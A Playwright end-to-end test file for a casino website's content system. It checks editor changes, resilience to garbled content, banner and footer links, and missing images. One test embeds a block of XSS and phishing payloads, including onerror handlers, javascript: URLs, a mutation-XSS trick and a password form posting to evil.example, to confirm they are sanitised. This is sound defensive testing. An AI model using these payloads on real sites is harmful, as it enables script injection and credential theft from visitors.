import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { comesSignedIn, withoutCookieQuestion } from './signing.ts'

// What editors do to content, seen on the pages: the real content service, mutated as an editor's studio does.

type Mutation = Readonly<Record<string, unknown>>

/** Sends mutations as an editor's tool does. */
async function mutate(origin: string, ...mutations: readonly Mutation[]): Promise<void> {
  const answer = await fetch(`${origin}/content/v2024-01-01/data/mutate/halcyon`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ mutations }),
  })
  expect([answer.status, await answer.text()]).toEqual([200, expect.anything()])
}
const patch = (id: string, set: object): Mutation => ({ patch: { id, set } })

/** Warnings that the page has logged. */
function warningsOf(page: Page): string[] {
  const said: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'warning') said.push(message.text())
  })
  return said
}

const heading = (page: Page) => page.getByRole('heading', { level: 1 }).first()

test.beforeEach(({ page }) => withoutCookieQuestion(page))

test('CON-1 NAV-1 what an editor changes stands at the next load: in the document, its first paint, the page, the footer and a text', async ({
  page,
  operator,
}) => {
  const { origin } = operator
  const drawn = async () => (await page.request.get('/en-UN')).text()
  // Everything that keeps answers has one now.
  await page.goto('/en-UN')
  expect(await drawn()).toContain('Play in calm water')
  await page.goto('/en-UN/privacy-policy')
  await mutate(
    origin,
    patch('homePage-UN-en', { headline: 'Night swimming tonight', 'seo.title': 'Night swimming' }),
    patch('footer-UN-en', { legal: 'Our licence has a new number.' }),
    patch('staticPage-privacy-policy-en', { title: 'What we know of you' }),
  )
  const html = await drawn()
  expect(html).toContain('>Night swimming tonight</h1>')
  expect(html).toContain('<title>Night swimming · Halcyon</title>')
  expect(html).not.toContain('Play in calm water')
  await page.goto('/en-UN')
  await expect(heading(page)).toHaveText('Night swimming tonight')
  await expect(page).toHaveTitle(/^Night swimming/)
  await expect(page.getByRole('contentinfo')).toContainText('Our licence has a new number.')
  await page.goto('/en-UN/privacy-policy')
  await expect(heading(page)).toHaveText('What we know of you')
})

/** Each would run, ask for a password, cover the page or leave the site. */
const HOSTILE = `<h2 id="kept" onclick="window.hacked=1" style="position:fixed;inset:0">Kept heading</h2>
<script>window.hacked = 1</script><img src=x onerror="window.hacked=1" alt="">
<svg><script>window.hacked=1</script><a xlink:href="javascript:window.hacked=1"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;"></table></mtext></math>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="data:text/html,x">object words</object>
<form action="https://evil.example"><input name="password"><button>Send your password</button></form>
<a href="javascript:window.hacked=1">one</a><a href="JaVa\tScript:window.hacked=1">two</a><a href="data:text/html,x">three</a>
<a href="//evil.example">four</a><a href="/\\evil.example">five</a><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style><template><img src=x onerror="window.hacked=1"></template>
<p>Read our <a href="terms">terms</a>, <a href="/promotions?tag=new">offers</a>, <a href="#kept">above</a> or <a href="https://help.example/">help</a>.</p>
<table><tr><td>${'Selbstausschlussverfahren'.repeat(9)}</td></tr></table>`

test('CON-4 hostile html of an editor shows its words alone: nothing runs, loads, asks or covers; its links stay in the market', async ({
  page,
  operator,
  expectedConsoleErrors,
}) => {
  // The policy of the document forbids it as well, and says so of what is only parsed to be cleaned.
  expectedConsoleErrors.push('Content Security Policy')
  const asked: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) asked.push(request.url())
  })
  await mutate(
    operator.origin,
    patch('staticPage-privacy-policy-en', { html: HOSTILE, sections: [{ id: 'two', title: 'Two', html: HOSTILE }] }),
    patch('promotion-calm-cashback', { body: HOSTILE, terms: HOSTILE }),
  )
  const promotion = (await (
    await fetch(`${operator.origin}/content/v2024-01-01/data/doc/halcyon/promotion-calm-cashback`)
  ).json()) as { documents: { category: { current: string } }[] }
  const category = promotion.documents[0]!.category.current
  for (const path of ['privacy-policy', `promotions/${category}/calm-cashback`]) {
    await page.setViewportSize({ width: 375, height: 800 })
    await page.goto(`/en-CA/${path}`)
    const text = page.getByRole('main')
    await expect(text.getByRole('heading', { name: 'Kept heading' }).first()).toBeVisible()
    await expect(text.getByRole('link', { name: 'one', exact: true })).toHaveCount(0)
    const left = await text.evaluate((main) => ({
      elements: [
        ...main.querySelectorAll(
          'script, iframe, object, form, input, svg [href], base, meta, link, style, template, math',
        ),
      ].map(({ tagName }) => tagName),
      attributes: [...main.querySelectorAll('h2, img, a')].flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => /^on|srcdoc|xlink/.test(name)),
      ),
      hacked: 'hacked' in window,
      isWide: [...main.querySelectorAll('h2, p, table')].some((one) => one.getBoundingClientRect().right > innerWidth),
    }))
    expect(left, path).toEqual({ elements: [], attributes: [], hacked: false, isWide: false })
    const addresses = await text.evaluate((main) =>
      [...main.querySelectorAll('a')]
        .filter(({ textContent }) => /^(one|two|three|four|five|terms|offers|above|help)$/.test(textContent))
        .map((link) => `${link.textContent} ${link.getAttribute('href')} ${link.rel}`.trim()),
    )
    expect(new Set(addresses)).toEqual(
      new Set([
        'one null',
        'two null',
        'three null',
        'four null',
        'five null',
        'terms /en-CA/terms',
        'offers /en-CA/promotions?tag=new',
        'above #kept',
        'help https://help.example/ noopener',
      ]),
    )
  }
  // Without leaving the page: what it holds, such as a running game's window, stays.
  await page.evaluate(() => Object.assign(window, { isSame: true }))
  await page.getByRole('main').getByRole('link', { name: 'terms', exact: true }).first().click()
  await expect(page).toHaveURL(/\/en-CA\/terms$/)
  expect(await page.evaluate(() => 'isSame' in window)).toBe(true)
  expect(asked).toEqual([])
})

/** Documents of each type that pages read. */
const BROKEN: Readonly<Record<string, string>> = {
  homePage: '_id == "homePage-UN-en"',
  footer: '_id == "footer-UN-en"',
  staticPage: '_id == "staticPage-terms-en"',
  signupBonus: '_id == "signupBonus-UN-en"',
  payAndPlayBanner: 'market == "UN"',
  paymentMethodsPage: '_id == "paymentMethodsPage-UN-en"',
  casinoSettings: 'true',
  banner: 'true',
  contentBox: 'true',
  category: 'rank < 4',
  game: 'rank < 30',
  provider: 'true',
  promotion: 'true',
  promotionCategory: 'true',
  licence: 'true',
}
/** Pages that read them. */
const PAGES = [
  '',
  'online-casino',
  'live-casino-online',
  'promotions',
  'signup',
  'signup/pnp',
  'terms',
  'payment-methods',
]

/** What a page is found by stays; of the rest nothing is left that could be read. */
const FOUND_BY = new Set(
  'market markets language page lobby url slug pageId categories channels type offeredCountries providerRestrictedCountry subProvider gameProvider rank categoryId name'.split(
    ' ',
  ),
)
const garbled = (document: Readonly<Record<string, unknown>>, at: number): Record<string, unknown> => {
  const garbage = [7, null, 'garbage', [null, 7, {}], {}, { _ref: 'nobody' }]
  return Object.fromEntries(
    Object.entries(document).map(([field, value], n) =>
      field.startsWith('_') || FOUND_BY.has(field) ? [field, value] : [field, garbage[(n + at) % garbage.length]],
    ),
  )
}

// Each type by itself, field by field: tests/contract/brokenContent.test.ts. Here all that can go wrong at once.
test('CON-1 APP-1 with every kind of content garbled each page still stands within its frame, and the log names the fields', async ({
  page,
  operator,
  expectedConsoleErrors,
}) => {
  test.setTimeout(180_000)
  // A text of which nothing can be read has no page but the one that says so.
  expectedConsoleErrors.push('The answer could not be read', 'Failed to load resource')
  const { origin } = operator
  const warnings = warningsOf(page)
  const changes: Mutation[] = []
  for (const [type, which] of Object.entries(BROKEN)) {
    const query = encodeURIComponent(`*[_type == "${type}" && ${which}][0...12]`)
    const found = await fetch(`${origin}/content/v2024-01-01/data/query/halcyon?query=${query}`)
    const { result } = (await found.json()) as { result: Record<string, unknown>[] }
    expect(result.length, type).toBeGreaterThan(0)
    changes.push(...result.map((one, at) => ({ createOrReplace: garbled(one, at) })))
  }
  await mutate(origin, ...changes)
  for (const path of PAGES) {
    warnings.length = 0
    await page.goto(`/en-UN/${path}`)
    await expect(page.locator('html'), path).toHaveAttribute('data-session', /visitor/)
    await expect(page.getByRole('banner'), path).toBeVisible()
    await expect(page.getByRole('contentinfo'), path).toContainText('Responsible gambling')
    await expect(heading(page), path).not.toBeEmpty()
    await expect(page.getByText(/Unexpected Application Error|SOMETHING WENT WRONG/), path).toHaveCount(0)
    await expect
      .poll(() => warnings.filter((text) => /content does not fit its schema at ".+"/.test(text)).length, {
        message: path,
      })
      .toBeGreaterThan(0)
  }
})

test('CON-3 a banner leads where its address for this audience says, in a new tab where it says so, and nowhere when it is not to be clicked', async ({
  page,
  operator,
  qa,
  expectedConsoleErrors,
}) => {
  // Nobody has consented yet.
  expectedConsoleErrors.push('/player/cookies/consent')
  const { origin } = operator
  const query = '*[_type == "banner" && page == "promotions-home"][0]._id'
  const found = await fetch(`${origin}/content/v2024-01-01/data/query/halcyon?query=${encodeURIComponent(query)}`)
  const { result: id } = (await found.json()) as { result: string }
  const words = {
    title: 'A banner to press',
    isClickable: true,
    authorized: 'BOTH',
    button: { type: 'link', label: 'Go' },
  }
  const urlAction = {
    authorized: { absoluteUrl: 'https://news.example/', openNewTab: true },
    anonymous: { slug: 'terms', openNewTab: false },
  }
  await mutate(origin, patch(id, { ...words, urlAction }))
  const banner = page.getByRole('main').getByRole('link', { name: /A banner to press/ })
  await page.goto('/en-UN/promotions')
  await expect(banner).toHaveAttribute('href', '/en-UN/terms')
  await mutate(origin, patch(id, { isClickable: false }))
  await page.reload()
  await expect(page.getByText('A banner to press')).toBeVisible()
  await expect(banner).toHaveCount(0)
  // An address that would run is no address.
  await mutate(
    origin,
    patch(id, { isClickable: true, urlAction: { ...urlAction, anonymous: { absoluteUrl: 'javascript:alert(1)' } } }),
  )
  await page.reload()
  await expect(page.getByText('A banner to press')).toBeVisible()
  await expect(banner).toHaveCount(0)
  const player = await qa.player({ profile: { firstLogin: false } })
  await comesSignedIn(page, player)
  await page.goto('/en-UN/promotions')
  await expect(banner).toHaveAttribute('href', 'https://news.example/')
  await expect(banner).toHaveAttribute('target', '_blank')
  await expect(banner).toHaveAttribute('rel', 'noopener')
})

test('CON-3 the footer shows licences, marks and ways to pay as its toggles say', async ({ page, operator }) => {
  const footer = page.getByRole('contentinfo')
  await page.goto('/en-UN/terms')
  await expect(footer.getByRole('list', { name: 'Ways to pay' })).toBeVisible()
  await expect(footer.getByText('Safer gambling')).toBeVisible()
  await expect(footer.getByText('Country and language')).toBeVisible()
  await mutate(
    operator.origin,
    patch('footer-UN-en', {
      toggles: { languages: false, paymentMethods: false, licences: false },
      groups: [
        {
          title: 'Elsewhere',
          links: [
            { label: 'Partners', absoluteUrl: 'https://partners.example/' },
            { label: 'Trap', absoluteUrl: 'javascript:alert(1)' },
          ],
        },
      ],
    }),
  )
  await page.reload()
  await expect(footer.getByRole('link', { name: 'Partners' })).toHaveAttribute('href', 'https://partners.example/')
  for (const gone of ['Safer gambling', 'Country and language', 'Trap'])
    await expect(footer.getByText(gone)).toHaveCount(0)
  await expect(footer.getByRole('list', { name: 'Ways to pay' })).toHaveCount(0)
})

test('APP-10 a picture that is gone or no picture leaves its place as it was, without a sign of a broken one', async ({
  page,
  operator,
  expectedConsoleErrors,
}) => {
  expectedConsoleErrors.push('404 (Not Found)', '400 (Bad Request)')
  await page.goto('/en-UN/promotions')
  const cards = page.getByRole('main').getByRole('article').or(page.getByRole('main').getByRole('listitem'))
  const art = cards.filter({ hasText: 'Calm cashback' }).first().locator('img, span').first()
  const before = await art.boundingBox()
  for (const gone of ['image-nobody_ffff-1200x600-png', 'no picture']) {
    await mutate(operator.origin, patch('promotion-calm-cashback', { image: { asset: { _ref: gone } } }))
    await page.goto('/en-UN/promotions')
    await expect(art).toBeVisible()
    await expect.poll(async () => (await art.boundingBox())?.height, { message: gone }).toBeCloseTo(before!.height, 0)
  }
})
